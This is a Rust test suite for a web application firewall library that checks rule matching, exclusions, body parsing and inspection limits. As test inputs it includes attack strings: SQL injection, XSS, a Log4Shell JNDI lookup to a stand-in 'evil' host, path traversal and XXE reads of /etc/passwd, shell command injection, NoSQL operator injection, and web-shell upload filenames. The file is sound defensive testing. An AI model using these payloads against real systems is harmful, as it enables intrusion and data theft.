//! Behaviour of the engine through its public API: custom rules, labels, exclusions,
//! detect mode, IP lists, compile errors, bodies, limits.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::net::IpAddr;

use tollgate_waf::{Action, Body, Group, Outcome, Policy, PolicySpec, Request, Scratch};

fn policy(yaml: &str) -> Policy {
    let spec: PolicySpec = serde_yaml::from_str(yaml).expect("yaml");
    Policy::compile(&spec).expect("compile")
}

fn compile_err(yaml: &str) -> String {
    let spec: PolicySpec = serde_yaml::from_str(yaml).expect("yaml");
    Policy::compile(&spec)
        .expect_err("should not compile")
        .to_string()
}

struct R {
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, Vec<u8>)>,
    ip: IpAddr,
    body: Option<Vec<u8>>,
    truncated: bool,
}

fn get(target: &str) -> R {
    R {
        method: "GET",
        target: target.to_owned(),
        headers: vec![
            ("host", b"shop.example".to_vec()),
            (
                "user-agent",
                b"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0".to_vec(),
            ),
        ],
        ip: "203.0.113.7".parse().unwrap(),
        body: None,
        truncated: false,
    }
}

impl R {
    fn header(mut self, k: &'static str, v: &str) -> Self {
        self.headers.push((k, v.as_bytes().to_vec()));
        self
    }
    fn ip(mut self, ip: &str) -> Self {
        self.ip = ip.parse().unwrap();
        self
    }
    fn post(mut self, ct: &str, body: impl AsRef<[u8]>) -> Self {
        self.method = "POST";
        self.headers.push(("content-type", ct.as_bytes().to_vec()));
        self.body = Some(body.as_ref().to_vec());
        self
    }
    fn method(mut self, m: &'static str) -> Self {
        self.method = m;
        self
    }
    fn run(&self, p: &Policy) -> Outcome {
        let headers: Vec<(&str, &[u8])> = self
            .headers
            .iter()
            .map(|(k, v)| (*k, v.as_slice()))
            .collect();
        let req = Request {
            method: self.method,
            target: self.target.as_bytes(),
            authority: None,
            headers: &headers,
            client_ip: self.ip,
            body: self.body.as_deref().map(|b| Body {
                bytes: b,
                truncated: self.truncated,
            }),
        };
        p.inspect(&req, &mut Scratch::new())
    }
}

fn ids(o: &Outcome) -> Vec<String> {
    o.matches.iter().map(|m| m.rule_id.to_string()).collect()
}

#[test]
fn clean_request_passes_with_nothing_to_report() {
    let p = policy("{}");
    let o = get("/products?id=42&sort=price_asc&q=red%20shoes")
        .header("cookie", "session=abc123; theme=dark")
        .run(&p);
    assert_eq!(o.action, Action::Pass);
    assert_eq!(o.score, 0);
    assert!(o.matches.is_empty(), "{:?}", o.matches);
}

#[test]
fn attack_blocks_with_explanation() {
    let p = policy("{}");
    let o = get("/search?q=1%27%20OR%20%271%27%3D%271").run(&p);
    assert!(o.is_blocked());
    let m = o
        .matches
        .iter()
        .find(|m| m.rule_id.as_ref() == "sqli.libinjection")
        .unwrap();
    assert_eq!(m.group, Group::Sqli);
    assert_eq!(m.argument, "query:q");
    assert_eq!(m.value, "1' or '1'='1");
    assert!(m.to_string().contains("sqli.libinjection"));
    let json = serde_json::to_value(&o).unwrap();
    assert_eq!(json["matches"][0]["group"], "sqli");
}

#[test]
fn one_weak_signal_does_not_block_two_do() {
    let p = policy("{}");
    // `alert(` alone is a warning (3).
    let o = get("/c?text=please%20alert(me)").run(&p);
    assert!(!o.would_block(), "{:?}", ids(&o));
    assert_eq!(o.score, 3);
    // The same with a superglobal (warning, 3) in another argument: 6 >= 5.
    let o = get("/c?text=please%20alert(me)&x=%24_GET%5B1%5D").run(&p);
    assert!(o.is_blocked(), "{:?}", ids(&o));
}

#[test]
fn log4shell_denies_at_once_even_with_a_high_threshold() {
    let p = policy("anomaly_threshold: 100");
    let o = get("/")
        .header("x-api-version", "${${lower:j}ndi:ldap://evil/a}")
        .run(&p);
    assert!(o.is_blocked());
    assert!(ids(&o).contains(&"java.log4shell".to_string()));
}

#[test]
fn detect_mode_reports_but_never_blocks() {
    let p = policy("mode: detect");
    let o = get("/?f=../../../../etc/passwd").run(&p);
    assert_eq!(o.action, Action::Pass);
    assert!(o.detect_only && o.would_block());
    assert!(o.score >= 5);
    let o = get("/?q=hello").run(&p);
    assert!(!o.detect_only);
}

#[test]
fn ip_lists() {
    let p = policy("allow_ips: [10.0.0.0/8]\ndeny_ips: [198.51.100.0/24, 2001:db8::1]");
    let o = get("/?f=../../../../etc/passwd").ip("10.1.2.3").run(&p);
    assert_eq!(o.action, Action::Allow);
    let o = get("/").ip("198.51.100.20").run(&p);
    assert!(o.is_blocked());
    assert_eq!(ids(&o), ["deny_ips"]);
    assert!(get("/").ip("2001:db8::1").run(&p).is_blocked());
    assert!(!get("/").ip("2001:db8::2").run(&p).would_block());
}

#[test]
fn custom_rule_operators() {
    let cases: &[(&str, &str, bool)] = &[
        ("{ path: { equals: /admin } }", "/admin", true),
        ("{ path: { equals: /admin } }", "/admin/x", false),
        ("{ path: { prefix: /admin } }", "/./admin//users", true),
        ("{ path: { suffix: .php } }", "/index.php?x=1", true),
        (
            "{ path: { contains: wp-, ignore_case: true } }",
            "/WP-login",
            true,
        ),
        ("{ path: { regex: '^/v[0-9]+/' } }", "/v2/items", true),
        ("{ method: { in: [put, delete] } }", "/", false),
        ("{ host: { equals: SHOP.example } }", "/", true),
        ("{ source_ip: { cidr: [203.0.113.0/24] } }", "/", true),
        ("{ source_ip: { cidr: [10.0.0.0/8] } }", "/", false),
        (
            "{ header: { name: User-Agent, contains: Firefox } }",
            "/",
            true,
        ),
        ("{ header: { name: x-missing, length_gt: 0 } }", "/", false),
        ("{ cookie: { name: plan, equals: gold } }", "/", true),
        ("{ query: { name: n, gt: 10 } }", "/?n=11", true),
        ("{ query: { name: n, lt: 10 } }", "/?n=11", false),
        ("{ query: { name: n, eq: 11 } }", "/?n=11.0", true),
        (
            "{ query: { name: '*', length_gt: 5 } }",
            "/?a=1&b=123456",
            true,
        ),
        (
            "{ query: { name: 'a b', equals: 'c d' } }",
            "/?a+b=c%20d",
            true,
        ),
        (
            "{ all: [ { path: { prefix: /a } }, { not: { method: { equals: post } } } ] }",
            "/a",
            true,
        ),
        (
            "{ any: [ { path: { prefix: /x } }, { path: { prefix: /y } } ] }",
            "/a",
            false,
        ),
    ];
    // One policy with every case as a `count` rule: compiling is the slow part in
    // debug builds.
    let rules: Vec<String> = cases
        .iter()
        .enumerate()
        .map(|(i, (cond, _, _))| format!("  - {{ id: r{i}, when: {cond}, action: count }}"))
        .collect();
    let p = policy(&format!("rules:\n{}", rules.join("\n")));
    for (i, (cond, target, want)) in cases.iter().enumerate() {
        let o = get(target).header("cookie", "plan=gold").run(&p);
        assert_eq!(
            ids(&o).contains(&format!("r{i}")),
            *want,
            "{cond} on {target}"
        );
    }
}

#[test]
fn custom_body_conditions() {
    let p = policy(
        "rules: [ { id: big-order, when: { body: { name: order.qty, gt: 100 } }, action: deny } ]",
    );
    let o = get("/")
        .post("application/json", r#"{"order":{"qty":500}}"#)
        .run(&p);
    // Numbers are not strings: qty 500 is not a string value, so match on strings only.
    assert!(!o.is_blocked());
    let o = get("/")
        .post("application/json", r#"{"order":{"qty":"500"}}"#)
        .run(&p);
    assert!(o.is_blocked());
    let p = policy(
        "rules: [ { id: f, when: { body: { name: 'a b', equals: 'x y' } }, action: deny } ]",
    );
    assert!(get("/")
        .post("application/x-www-form-urlencoded", "a+b=x+y")
        .run(&p)
        .is_blocked());
}

#[test]
fn custom_actions_labels_and_order() {
    let p = policy(
        r#"
rules:
  - { id: tag-bots, when: { header: { name: user-agent, contains: bot, ignore_case: true } }, action: { label: bot } }
  - { id: bots-api, when: { all: [ { label: { equals: bot } }, { path: { prefix: /api } } ] }, action: { deny: { status: 429, body: slow down, headers: { retry-after: "60" } } } }
  - { id: health, when: { path: { equals: /healthz } }, action: allow }
  - { id: suspicious, when: { query: { name: debug, equals: "1" } }, action: { score: 4 } }
"#,
    );
    let o = get("/api/x").header("user-agent", "SuperBot/1.0").run(&p);
    assert_eq!(
        o.labels.iter().map(|l| l.to_string()).collect::<Vec<_>>(),
        ["bot"]
    );
    match &o.action {
        Action::Block(d) => {
            assert_eq!(d.status, 429);
            assert_eq!(d.body.as_deref(), Some("slow down"));
            assert_eq!(
                d.headers.as_ref(),
                [("retry-after".to_string(), "60".to_string())]
            );
        }
        a => panic!("{a:?}"),
    }
    // Labelled but not on /api: reported, not blocked.
    let o = get("/shop").header("user-agent", "SuperBot/1.0").run(&p);
    assert_eq!(o.action, Action::Pass);
    assert_eq!(o.labels.len(), 1);
    // `allow` skips the managed groups too.
    let o = get("/healthz?x=../../../../etc/passwd").run(&p);
    assert_eq!(o.action, Action::Allow);
    // `score` adds to the anomaly score: 4 + a warning (3) blocks.
    let o = get("/?debug=1").run(&p);
    assert_eq!(o.score, 4);
    assert!(!o.would_block());
    assert!(get("/?debug=1&t=hey%20alert(1)").run(&p).is_blocked());
}

#[test]
fn exclusions() {
    let p = policy(
        r#"
exclusions:
  - { rules: [sqli], arguments: [json:query, "query:sql*"] }
  - { rules: [lfi.traversal_deep, lfi.sensitive_file, lfi.traversal], paths: [/files/] }
"#,
    );
    let sql = "1%27%20OR%20%271%27%3D%271";
    assert!(get(&format!("/?sqlq={sql}"))
        .run(&p)
        .matches
        .iter()
        .all(|m| m.group != Group::Sqli));
    assert!(get(&format!("/?q={sql}")).run(&p).is_blocked());
    let o = get("/")
        .post("application/json", r#"{"query":"1' OR '1'='1"}"#)
        .run(&p);
    assert!(!o.is_blocked(), "{:?}", ids(&o));
    let o = get("/")
        .post("application/json", r#"{"other":"1' OR '1'='1"}"#)
        .run(&p);
    assert!(o.is_blocked());
    assert!(!get("/files/x?p=../../../../etc/passwd")
        .run(&p)
        .is_blocked());
    assert!(get("/other?p=../../../../etc/passwd").run(&p).is_blocked());
}

#[test]
fn managed_groups_and_paranoia() {
    let p = policy("managed: [xss]");
    assert!(!get("/?f=../../../../etc/passwd").run(&p).would_block());
    assert!(get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")
        .run(&p)
        .is_blocked());
    let p1 = policy("paranoia: 1");
    let p2 = policy("paranoia: 2");
    let html = "/?bio=%3Cb%3Ehi%3C/b%3E%20%3Ca%20href%3D%22/x%22%3Ex%3C/a%3E";
    assert_eq!(get(html).run(&p1).score, 0);
    assert!(get(html).run(&p2).score > 0);
    assert!(p2.rule_ids().len() > p1.rule_ids().len());
}

#[test]
fn method_allow_list_is_off_by_default() {
    let p = policy("{}");
    for m in ["PUT", "PATCH", "DELETE", "OPTIONS"] {
        assert!(!get("/api/x").method(m).run(&p).would_block(), "{m}");
    }
    let p = policy("allowed_methods: [GET, post]");
    assert!(get("/api/x").method("DELETE").run(&p).is_blocked());
    assert!(!get("/api/x").method("POST").run(&p).would_block());
}

#[test]
fn protocol_checks() {
    let p = policy("{}");
    let mut r = get("/");
    r.headers.retain(|(k, _)| *k != "host");
    let o = r.run(&p);
    assert_eq!(ids(&o), ["protocol.missing_host"]);
    assert!(!o.would_block());
    assert!(get("/").header("Host", "evil.example").run(&p).is_blocked());
    let o = get("/").post("application/x-unknown-thing", "abc").run(&p);
    assert_eq!(ids(&o), ["protocol.content_type"]);
    assert!(!o.would_block());
}

#[test]
fn bodies_of_every_kind() {
    let p = policy("{}");
    let cases: &[(&str, &str, &str)] = &[
        ("application/x-www-form-urlencoded", "a=1&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "form:comment"),
        ("application/json", r#"{"user":{"tags":["ok","<img src=x onerror=alert(1)>"]}}"#, "json:user.tags[1]"),
        ("application/vnd.api+json", r#"{"data":{"q":"1' UNION SELECT password FROM users--"}}"#, "json:data.q"),
        (
            "multipart/form-data; boundary=zz",
            "--zz\r\nContent-Disposition: form-data; name=\"bio\"\r\n\r\n<svg onload=alert(1)>\r\n--zz--\r\n",
            "multipart:bio",
        ),
        ("application/xml", "<a><b id=\"1\">../../../../etc/passwd</b></a>", "xml:a.b"),
        ("application/xml", "<a x=\"${jndi:ldap://e/x}\"/>", "xml:a@x"),
        ("text/plain", "; cat /etc/passwd", "body"),
    ];
    for (ct, body, arg) in cases {
        let o = get("/").post(ct, body).run(&p);
        assert!(o.is_blocked(), "{ct}: {:?}", o.matches);
        assert!(
            o.matches.iter().any(|m| m.argument == *arg),
            "{ct}: want {arg}, got {:?}",
            o.matches
        );
    }
    let o = get("/").post("application/xml", r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#).run(&p);
    assert!(ids(&o).contains(&"xxe.external_entity".to_string()));
    // Binary uploads are not read.
    let o = get("/")
        .post("image/png", b"\x89PNG<script>alert(1)</script>")
        .run(&p);
    assert!(o.matches.is_empty());
    // A JSON key that is a MongoDB operator.
    let o = get("/")
        .post(
            "application/json",
            r#"{"user":"admin","password":{"$ne":null}}"#,
        )
        .run(&p);
    assert!(o.is_blocked());
    assert!(
        o.matches.iter().any(|m| m.argument == "json:password.$ne"),
        "{:?}",
        o.matches
    );
    // Broken JSON is inspected raw.
    let o = get("/")
        .post("application/json", r#"{"a": "<script>alert(1)</script>"#)
        .run(&p);
    assert!(o.is_blocked());
    assert!(ids(&o).contains(&"protocol.body_parse_error".to_string()));
    // Benign documents pass.
    let o = get("/")
        .post(
            "application/xml",
            r#"<?xml version="1.0"?><order><note>O'Brien -- leave at door</note></order>"#,
        )
        .run(&p);
    assert!(!o.would_block(), "{:?}", o.matches);
}

#[test]
fn body_limits() {
    let p = policy("body: { limit: 16, over_limit: block }");
    let o = get("/").post("text/plain", "0123456789abcdefXYZ").run(&p);
    assert!(o.is_blocked());
    assert!(ids(&o).contains(&"protocol.body_over_limit".to_string()));
    let p = policy("body: { limit: 16 }");
    // The attack is past the limit: not seen, and the outcome says so.
    let o = get("/")
        .post("text/plain", "0123456789abcdef<script>alert(1)</script>")
        .run(&p);
    assert!(!o.would_block());
    assert!(o.limited);
    let mut r = get("/").post("text/plain", "<script>alert(1)</script>");
    r.truncated = true;
    let p = policy("{}");
    let o = r.run(&p);
    assert!(o.is_blocked() && o.limited);
    assert_eq!(p.body_limit(), 64 * 1024);
}

#[test]
fn pathological_inputs_are_bounded() {
    let p = policy("{}");
    // 100k nested arrays: walked iteratively, names stop growing at the depth limit.
    let deep = format!("{}\"x\"{}", "[".repeat(100_000), "]".repeat(100_000));
    let o = get("/").post("application/json", &deep).run(&p);
    assert!(o.limited);
    assert!(ids(&o).contains(&"protocol.inspection_limit".to_string()));
    // Deep objects too.
    let deep = format!("{}1{}", r#"{"a":"#.repeat(50_000), "}".repeat(50_000));
    assert!(get("/").post("application/json", &deep).run(&p).limited);
    // 10,000 arguments: the engine stops at max_arguments (1000).
    let q: Vec<String> = (0..10_000).map(|i| format!("a{i}=x%20y")).collect();
    let o = get(&format!("/?{}", q.join("&"))).run(&p);
    assert!(o.limited);
    assert_eq!(o.stats.arguments, 1001);
    assert!(ids(&o).contains(&"protocol.too_many_arguments".to_string()));
    // A megabyte of `%25` in one argument: cut at max_argument_length (64 KiB).
    let o = get(&format!("/?a={}", "%25".repeat(350_000))).run(&p);
    assert!(o.limited);
    assert!(o.stats.bytes <= 64 * 1024 + 1024, "{:?}", o.stats);
    assert!(ids(&o).contains(&"protocol.argument_too_long".to_string()));
    // The same in a body: cut at the body limit.
    let body = format!("a={}", "%25".repeat(350_000));
    let o = get("/")
        .post("application/x-www-form-urlencoded", &body)
        .run(&p);
    assert!(
        o.limited && o.stats.bytes <= 64 * 1024 + 1024,
        "{:?} {}",
        o.stats,
        o.limited
    );
    // A bulk JSON array of 3,000 strings is not "too many arguments".
    let bulk: Vec<String> = (0..3000).map(|i| format!("\"item {i}\"")).collect();
    let o = get("/")
        .post("application/json", format!("[{}]", bulk.join(",")))
        .run(&p);
    assert!(!o.would_block(), "{:?}", o.matches);
    // 10,000 multipart parts: stopped at the argument limit.
    let mp: String = (0..10_000)
        .map(|i| format!("--b\r\nContent-Disposition: form-data; name=\"f{i}\"\r\n\r\nv w\r\n"))
        .collect();
    let o = get("/")
        .post("multipart/form-data; boundary=b", mp + "--b--")
        .run(&p);
    assert!(o.limited && o.stats.arguments <= 1001);
}

#[test]
fn compile_errors_name_the_field() {
    let e = compile_err("rules: [ {id: a, when: {path: {prefix: /}}, action: count}, {id: b, when: {path: {prefix: /}}, action: count}, {id: c, when: { all: [ { path: { regex: '(' } } ] }, action: deny } ]");
    assert!(e.starts_with("rules[2].when.all[0].path.regex: "), "{e}");
    let e = compile_err("managed: [sqli, sqlinjection]");
    assert!(
        e.starts_with("managed[1]: unknown group \"sqlinjection\"; valid groups: sqli, xss"),
        "{e}"
    );
    let e = compile_err(
        "rules: [ { id: a, when: { source_ip: { cidr: [10.0.0.0/33] } }, action: deny } ]",
    );
    assert!(e.starts_with("rules[0].when.source_ip.cidr[0]: "), "{e}");
    let e = compile_err(
        "rules: [ { id: a, when: { path: { prefix: /a, suffix: /b } }, action: deny } ]",
    );
    assert!(
        e.contains("rules[0].when.path: has more than one operator"),
        "{e}"
    );
    let e = compile_err("rules: [ { id: a, when: { header: { equals: x } }, action: deny } ]");
    assert!(e.starts_with("rules[0].when.header.name: required"), "{e}");
    let e = compile_err("rules: [ { id: a, when: { any: [] }, action: deny } ]");
    assert!(e.starts_with("rules[0].when.any: must not be empty"), "{e}");
    let e = compile_err("exclusions: [ { rules: [sqli.nope] } ]");
    assert!(
        e.starts_with("exclusions[0].rules[0]: unknown rule id or group"),
        "{e}"
    );
    let e = compile_err("deny_ips: [not-an-ip]");
    assert!(e.starts_with("deny_ips[0]:"), "{e}");
    let e = compile_err("paranoia: 5");
    assert!(e.starts_with("paranoia:"), "{e}");
    let e = compile_err("rules: [ { id: a, when: { path: { prefix: / } }, action: count }, { id: a, when: { path: { prefix: / } }, action: count } ]");
    assert!(e.starts_with("rules[1].id: duplicate"), "{e}");
}

#[test]
fn spec_yaml_and_schema() {
    let spec: PolicySpec = serde_yaml::from_str(
        r#"
mode: detect
paranoia: 2
anomaly_threshold: 7
managed: [sqli, xss, protocol]
body: { limit: 1MiB, over_limit: block }
max_argument_length: 2KiB
allowed_methods: [GET, POST]
rules:
  - { id: a, when: { path: { prefix: /admin } }, action: deny }
  - { id: b, when: { method: { equals: GET } }, action: { deny: { status: 451 } } }
  - { id: c, when: { host: { equals: x } }, action: { score: 2 } }
  - { id: d, when: { host: { equals: x } }, action: { label: l } }
"#,
    )
    .unwrap();
    assert_eq!(spec.body.limit.0, 1 << 20);
    assert_eq!(spec.max_argument_length.0, 2048);
    Policy::compile(&spec).unwrap();
    // Round trip.
    let back: PolicySpec = serde_yaml::from_str(&serde_yaml::to_string(&spec).unwrap()).unwrap();
    assert_eq!(back.body.limit, spec.body.limit);
    // Unknown fields are refused.
    assert!(serde_yaml::from_str::<PolicySpec>("modes: block").is_err());
    assert!(serde_yaml::from_str::<PolicySpec>("body: { limit: 64 KB please }").is_err());
    let schema = serde_json::to_value(schemars::schema_for!(PolicySpec)).unwrap();
    assert!(schema["properties"]["anomaly_threshold"]["description"]
        .as_str()
        .unwrap()
        .contains("critical=5"));
}

#[test]
fn policy_is_shareable_across_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Policy>();
    assert_send_sync::<Outcome>();
    fn assert_send<T: Send>() {}
    assert_send::<Scratch>();
}

#[test]
fn uploads_of_server_scripts() {
    let p = policy("{}");
    let up = |name: &str| {
        let body = format!("--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{name}\"\r\nContent-Type: application/octet-stream\r\n\r\n\x00\x01\r\n--b--\r\n");
        get("/upload")
            .post("multipart/form-data; boundary=b", body)
            .run(&p)
    };
    for bad in [
        "shell.php",
        "avatar.php.jpg",
        "x.phtml",
        "cmd.jsp",
        "a.aspx",
        ".htaccess",
    ] {
        let o = up(bad);
        assert!(o.is_blocked(), "{bad}");
        assert_eq!(o.matches[0].argument, "multipart-filename:file");
    }
    for ok in [
        "photo.jpg",
        "report.pdf",
        "My CV (final).docx",
        "résumé.pdf",
        "php-notes.txt",
    ] {
        assert!(!up(ok).would_block(), "{ok}");
    }
}

/// Found by the fuzzer: a header name that is not ASCII was sliced inside a character.
#[test]
fn non_ascii_names_and_types_do_not_panic() {
    let p = policy("{}");
    for (k, v) in [
        ("\u{fffd}\u{fffd}Host", "h"),
        ("sé", "x"),
        ("content-type", "applicatiön/jsön*"),
        ("content-type", "ééé/*"),
    ] {
        let headers: Vec<(&str, &[u8])> = vec![("host", b"h"), (k, v.as_bytes())];
        let req = Request {
            method: "POST",
            target: "/é?é=é&aspsessionidé=1&u=é@x".as_bytes(),
            authority: None,
            headers: &headers,
            client_ip: "192.0.2.1".parse().unwrap(),
            body: Some(Body {
                bytes: "é".as_bytes(),
                truncated: false,
            }),
        };
        let _ = p.inspect(&req, &mut Scratch::new());
    }
}
